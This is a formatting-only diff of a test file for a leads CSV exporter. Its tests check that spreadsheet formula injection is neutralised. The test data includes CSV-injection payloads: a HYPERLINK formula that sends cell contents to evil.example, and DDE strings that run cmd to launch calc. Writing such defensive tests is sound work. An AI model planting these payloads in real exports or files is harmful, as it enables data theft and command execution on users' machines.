@@ -5,7 +5,10 @@ import { leadsCsv, spreadsheetSafe } from './csv.js';
 
 describe('spreadsheetSafe', () => {
   it.each([
-    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+    ],
     ['+91 98765 43210', `'+91 98765 43210`],
     ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
     ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
@@ -17,12 +20,19 @@ describe('spreadsheetSafe', () => {
     expect(spreadsheetSafe(value)).toBe(safe);
   });
 
-  it.each(['Ravi Patel', 'ravi@example.in', '9876543210', '', ' =1+1', "'=1+1", 'a=b', 'Sales - North', '2026-01-15T10:00:00+05:30'])(
-    'leaves %j as it is',
-    (value) => {
-      expect(spreadsheetSafe(value)).toBe(value);
-    },
-  );
+  it.each([
+    'Ravi Patel',
+    'ravi@example.in',
+    '9876543210',
+    '',
+    ' =1+1',
+    "'=1+1",
+    'a=b',
+    'Sales - North',
+    '2026-01-15T10:00:00+05:30',
+  ])('leaves %j as it is', (value) => {
+    expect(spreadsheetSafe(value)).toBe(value);
+  });
 });
 
 describe('leadsCsv', () => {
@@ -42,11 +52,16 @@ describe('leadsCsv', () => {
 
   it('writes the header of the kind even when there are no leads', () => {
     expect(leadsCsv('partner', [])).toBe(`${LEAD_COLUMNS.partner.join(',')}\r\n`);
-    expect(leadsCsv('newsletter', [])).toBe('id,received_at,email,language,consent_version,consented_at\r\n');
+    expect(leadsCsv('newsletter', [])).toBe(
+      'id,received_at,email,language,consent_version,consented_at\r\n',
+    );
   });
 
   it('writes one CRLF-terminated record per lead, in the header order, empty for no value', () => {
-    const csv = leadsCsv('partner', [lead({ id: 7 }), lead({ id: 8, business_type: 'Franchise partner' })]);
+    const csv = leadsCsv('partner', [
+      lead({ id: 7 }),
+      lead({ id: 8, business_type: 'Franchise partner' }),
+    ]);
     expect(csv.split('\r\n')).toEqual([
       'id,received_at,name,email,mobile,business_type,message,language,consent_version,consented_at',
       `7,2026-01-15T10:00:00+05:30,Ravi Patel,ravi@example.in,'+91 98765 43210,,Hello,English,2026-11,2026-01-15T10:00:00+05:30`,
@@ -58,9 +73,27 @@ describe('leadsCsv', () => {
   it('shows phone numbers as the inbox and the mail do: +91 with a mobile, a landline with its STD code', () => {
     const [, partner] = parseCsv(leadsCsv('partner', [lead({ mobile: '9825012345' })]));
     expect(partner![4]).toBe(`'+91 98250 12345`);
-    const contact = (phone: string) => ({ id: 2, received_at: '2026-01-15T10:00:00+05:30', name: 'Anita Rao', email: 'anita@example.in', phone, subject: 'Rates', message: 'Hi' });
-    const { records } = parseCsvRecords(leadsCsv('contact', [contact('098250 12345'), contact('079 2658 1234'), contact('1800 270 1996')]));
-    expect(records.map((record) => record['phone'])).toEqual([`'+91 98250 12345`, `'+91 79 2658 1234`, '1800 270 1996']);
+    const contact = (phone: string) => ({
+      id: 2,
+      received_at: '2026-01-15T10:00:00+05:30',
+      name: 'Anita Rao',
+      email: 'anita@example.in',
+      phone,
+      subject: 'Rates',
+      message: 'Hi',
+    });
+    const { records } = parseCsvRecords(
+      leadsCsv('contact', [
+        contact('098250 12345'),
+        contact('079 2658 1234'),
+        contact('1800 270 1996'),
+      ]),
+    );
+    expect(records.map((record) => record['phone'])).toEqual([
+      `'+91 98250 12345`,
+      `'+91 79 2658 1234`,
+      '1800 270 1996',
+    ]);
   });
 
   it('quotes commas, quotes and line breaks so that every field reads back as it was', () => {
@@ -73,7 +106,11 @@ describe('leadsCsv', () => {
   });
 
   it('quotes a line break with no comma or quote near it, so no line of a message starts a row', () => {
-    for (const message of ["Please call me back\n=cmd|' /C calc'!A0\n=2+5", 'one\rtwo', 'one\r\n@SUM(1)']) {
+    for (const message of [
+      "Please call me back\n=cmd|' /C calc'!A0\n=2+5",
+      'one\rtwo',
+      'one\r\n@SUM(1)',
+    ]) {
       const { records } = parseCsvRecords(leadsCsv('partner', [lead({ message })]));
       expect(records, JSON.stringify(message)).toHaveLength(1);
       expect(records[0]!['message']).toBe(message);
@@ -82,7 +119,12 @@ describe('leadsCsv', () => {
 
   it('neutralises formulas in every text field and leaves numbers alone', () => {
     const csv = leadsCsv('partner', [
-      lead({ name: '=HYPERLINK("http://evil.example","Click me")', email: '@x', message: '-1+2,\n=cmd', business_type: '+1' }),
+      lead({
+        name: '=HYPERLINK("http://evil.example","Click me")',
+        email: '@x',
+        message: '-1+2,\n=cmd',
+        business_type: '+1',
+      }),
     ]);
     const [, record] = parseCsv(csv);
     expect(record).toEqual([
